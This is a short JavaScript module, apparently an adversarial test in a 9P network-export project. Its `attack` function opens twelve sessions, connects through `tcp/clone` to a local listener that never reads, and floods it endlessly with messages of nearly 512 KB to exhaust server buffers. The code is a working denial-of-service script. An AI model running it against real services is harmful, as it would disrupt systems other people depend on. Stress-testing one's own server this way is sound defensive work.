// Writes of the longest messages to a connection that nobody reads: twelve sessions of three peers.
import { Topen, Tread, Twalk, Twrite } from '@net/9p'
import { parseIP, TCPAddr } from '@net/addr'
import { HONEST, target } from '../export/place.mjs'
import { forever, frame, RawSession } from '../export/raw_session.mjs'

const data = Buffer.alloc(512 * 1024 - 64, 1)

export async function attack({ port, begun }) {
  // Connections to it are accepted by the kernel alone.
  const sink = await target.listenTCP('tcp4', new TCPAddr(parseIP(HONEST), 0), { backlog: 1024 })
  const one = (n) => async () => {
    const session = await RawSession.attach(port, n % 3)
    await session.ask(frame(Twalk, 1, { fid: 0, newfid: 1, wname: ['tcp', 'clone'] }))
    await session.ask(frame(Topen, 1, { fid: 1, mode: 2 }))
    await session.ask(frame(Tread, 1, { fid: 1, offset: 0n, count: 16 }))
    const connect = Buffer.from(`connect ${HONEST}!${sink.addr.port}`)
    await session.ask(frame(Twrite, 1, { fid: 1, offset: 0n, data: connect }))
    await session.ask(frame(Twalk, 1, { fid: 0, newfid: 2, wname: ['tcp', '0', 'data'] }))
    await session.ask(frame(Topen, 1, { fid: 2, mode: 2 }))
    session.discard().catch(() => {})
    begun()
    for (let i = 2; ; i = (i + 1) % 60_000) {
      await session.conn.write(frame(Twrite, i, { fid: 2, offset: 0n, data }))
    }
  }
  await Promise.all(Array.from({ length: 12 }, (_, n) => forever(one(n))))
}
